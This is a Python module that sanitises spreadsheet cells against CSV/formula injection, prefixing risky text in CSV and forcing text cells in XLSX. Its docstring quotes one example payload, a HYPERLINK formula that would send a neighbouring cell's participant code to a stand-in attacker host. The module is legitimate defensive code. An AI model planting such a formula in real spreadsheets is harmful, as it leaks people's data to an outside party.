"""The guarded writer: every text cell of every spreadsheet Pilotti makes goes through here.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
openpyxl stores any text starting with ``=`` as one. Texts in Pilotti's files come from people
(free-text answers, instrument items, unit and segment names), so a text such as
``=HYPERLINK("https://evil.example/?"&A3, "Ohje")`` would otherwise become a live formula
in a coordinator's Excel, able to send the participant codes beside it elsewhere (CSV/formula
injection, OWASP). In XLSX a text cell is stored as text, never as a formula; in CSV, which has
no cell types, such a text gets a leading apostrophe, which spreadsheets hide and treat as "text".
"""

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

from openpyxl.cell.cell import Cell

if TYPE_CHECKING:
    from _csv import _writer

# What makes a spreadsheet read a cell as a formula (tab and carriage return start one in CSV).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """A text that a spreadsheet would run as a formula, with a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return f"'{value}"
    return value


def write_csv_rows(writer: "_writer", rows: Iterable[Iterable[Any]]) -> None:
    writer.writerows([csv_safe(value) for value in row] for row in rows)


def append_row(sheet: Any, row: Iterable[Any]) -> None:
    """Appends the row to an openpyxl sheet with every text cell stored as text."""
    cells = []
    for value in row:
        cell = Cell(sheet, value=value)
        if cell.data_type == "f":  # openpyxl took a text starting with "=" for a formula
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)
